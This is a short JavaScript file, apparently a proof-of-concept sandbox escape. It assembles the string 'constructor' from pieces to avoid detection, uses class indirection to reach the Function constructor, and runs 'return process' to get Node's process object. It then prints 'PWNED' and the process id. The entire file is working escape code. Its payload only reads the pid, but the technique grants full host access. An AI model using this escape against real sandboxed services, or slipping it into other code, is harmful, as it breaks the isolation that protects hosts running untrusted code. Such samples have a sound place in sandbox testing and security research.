'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
class K { #a = t; get() { return this.#a; } }
const o = Date.now() > 1 ? new K().get() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
